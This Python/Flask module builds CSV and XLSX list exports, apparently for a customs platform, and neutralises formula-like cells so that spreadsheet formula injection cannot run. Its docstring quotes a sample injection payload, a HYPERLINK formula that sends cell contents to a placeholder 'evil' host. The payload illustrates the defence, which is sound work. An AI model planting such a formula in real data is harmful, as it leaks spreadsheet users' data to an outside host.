"""Spreadsheet exports that cannot carry formulas (CSV/formula injection, OWASP).

A consignee named `=HYPERLINK("http://evil/?"&A1,"点击")` typed by an enterprise must reach a customs
officer's Excel as that text, never as a formula. Every text cell starting with = + - @ or a tab or
carriage return is written as text: CSV cells get a leading apostrophe (what Excel itself shows for a
quoted text), XLSX cells are stored as strings with Excel's quotePrefix style. Numbers, dates and
booleans are left as they are.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

from flask import Response
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV = "text/csv; charset=utf-8"


def attachment(data: bytes, mimetype: str, filename: str) -> Response:
    """A file download response (Content-Disposition: attachment)."""
    return Response(
        data, mimetype=mimetype, headers={"Content-Disposition": f'attachment; filename="{filename}"'}
    )


def is_formula_like(value) -> bool:
    """Whether a spreadsheet would read this cell as a formula (or strip its start)."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value):
    """The value as written into a CSV cell: formula-like text prefixed with an apostrophe."""
    return "'" + value if is_formula_like(value) else value


def xlsx_text(value):
    """Text as an XLSX cell can hold it: control characters XML forbids (a pasted \\x11 in a search
    filter, say) become U+FFFD instead of failing the whole export."""
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value) if isinstance(value, str) else value


def append_xlsx_row(sheet, values) -> None:
    """Append a row to an openpyxl sheet, every formula-like text stored as a plain string."""
    sheet.append([xlsx_text(value) for value in values])
    for cell in sheet[sheet.max_row]:
        if is_formula_like(cell.value) or cell.data_type == "f":
            cell.data_type = "s"
            cell.quotePrefix = True


def _cell(value):
    """A value as a spreadsheet cell: datetimes as UTC text, None as empty."""
    if isinstance(value, datetime):
        return value.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, list | tuple):
        return ",".join(str(_cell(one)) for one in value)
    return "" if value is None else value


def filters_line(filters: dict) -> str:
    """The filters a list was exported with, as one line written into the file (none: 无 none)."""
    shown = [f"{key}={_cell(value)}" for key, value in sorted(filters.items()) if value not in (None, "", [])]
    return "筛选条件 Filters: " + ("; ".join(shown) if shown else "无 none")


def table_csv(columns, rows: list[dict], filters: dict) -> bytes:
    """UTF-8 with a byte-order mark (Excel reads the Chinese), a `# filters` line, the header, the rows."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["# " + filters_line(filters)])
    writer.writerow([label for _, label in columns])
    for row in rows:
        writer.writerow([csv_cell(_cell(row[key])) for key, _ in columns])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def table_xlsx(columns, rows: list[dict], filters: dict, *, title: str, wide: tuple = ()) -> bytes:
    """The rows as a workbook: sheet `title` (header frozen), and a second sheet naming the filters."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title
    sheet.append([label for _, label in columns])
    for row in rows:
        append_xlsx_row(sheet, [_cell(row[key]) for key, _ in columns])
    sheet.freeze_panes = "A2"
    for index, (key, _) in enumerate(columns, start=1):
        sheet.column_dimensions[sheet.cell(row=1, column=index).column_letter].width = (
            34 if key in wide else 22
        )
    about = workbook.create_sheet("筛选条件 Filters")
    append_xlsx_row(about, [filters_line(filters)])
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def _header_label(column: dict) -> str:
    return f"{column['zh']} {column['en']}"


def tables_csv(title: str, filter_lines, tables) -> bytes:
    """Tables ({title_zh, title_en, columns, rows}) as one CSV: the title and filters first, then each
    table under its own title line. UTF-8 with a byte-order mark, so Excel reads the Chinese."""
    import csv
    import io

    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([csv_cell(title)])
    for label, value in filter_lines:
        writer.writerow([csv_cell(label), csv_cell(value)])
    for table in tables:
        writer.writerow([])
        writer.writerow([csv_cell(f"{table['title_zh']} {table['title_en']}")])
        writer.writerow([_header_label(column) for column in table["columns"]])
        for row in table["rows"]:
            writer.writerow([csv_cell(_plain(row.get(column["key"]))) for column in table["columns"]])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def tables_xlsx(title: str, filter_lines, tables) -> bytes:
    """The same tables as a workbook: a 筛选条件 sheet with the title and filters, then one sheet per
    table (its header row frozen); figures stay numbers."""
    import io

    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "筛选条件 filters"
    append_xlsx_row(sheet, [title])
    for label, value in filter_lines:
        append_xlsx_row(sheet, [label, value])
    sheet.column_dimensions["A"].width = 28
    sheet.column_dimensions["B"].width = 40
    for table in tables:
        sheet = workbook.create_sheet(table["name"][:31])
        append_xlsx_row(sheet, [_header_label(column) for column in table["columns"]])
        for row in table["rows"]:
            append_xlsx_row(sheet, [_plain(row.get(column["key"])) for column in table["columns"]])
        sheet.freeze_panes = "A2"
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def register_exports(
    blp, path: str, *, roles, filters, export_csv, export_xlsx, what: str, assurance=None
) -> None:
    """Add `path`.csv and `path`.xlsx to the flask-smorest blueprint `blp`: `filters` (the list's
    filter schema) in the query string, `export_csv`/`export_xlsx(actor=…, **filters)` make the file."""
    from flask import g
    from flask.views import MethodView

    from backend.core.auth import requires
    from backend.core.enums import Assurance

    level = assurance or Assurance.PASSWORD
    name = path.strip("/").split("/")[-1]
    formats = (
        ("csv", CSV, export_csv, "text/csv", "UTF-8 with BOM; the filters on the first line"),
        ("xlsx", XLSX, export_xlsx, XLSX, "Excel workbook; the filters on a second sheet"),
    )
    for suffix, mimetype, export, content_type, described in formats:

        def get(self, args, export=export, mimetype=mimetype, suffix=suffix):
            return attachment(export(actor=g.actor, **args), mimetype, f"{name}.{suffix}")

        get.__doc__ = f"{what} as {suffix.upper()}: the list's scope and filters, at most 20 000 rows."
        view = requires(*roles, assurance=level)(
            blp.arguments(filters, location="query")(
                blp.response(200, content_type=content_type, description=described)(get)
            )
        )
        cls = type(f"{name.title().replace('-', '')}{suffix.title()}", (MethodView,), {"get": view})
        blp.route(f"{path}.{suffix}")(cls)


def _plain(value):
    return "" if value is None else value


def export_routes(blp, path: str, *, title: str, args_schema, guard, export) -> None:
    """Register `{path}.csv` and `{path}.xlsx` on a flask-smorest blueprint: `guard` (e.g.
    requires(Role.ADMINISTRATOR)) decides who may call them, the query string is read with
    `args_schema`, and `export(file_format=…, **args)` returns the file's bytes."""
    from flask.views import MethodView

    def view(file_format: str, mimetype: str):
        class Export(MethodView):
            @guard
            @blp.arguments(args_schema, location="query")
            @blp.response(200, content_type=mimetype.split(";")[0], description=f"{title} ({file_format})")
            def get(self, args):
                name = f"{path.strip('/').replace('/', '-')}.{file_format}"
                return attachment(export(file_format=file_format, **args), mimetype, name)

        Export.__name__ = f"{title.replace(' ', '')}{file_format.title()}"
        Export.get.__doc__ = f"{title} as {file_format.upper()}, with the list's filters."
        return Export

    blp.route(f"{path}.csv")(view("csv", CSV))
    blp.route(f"{path}.xlsx")(view("xlsx", XLSX))
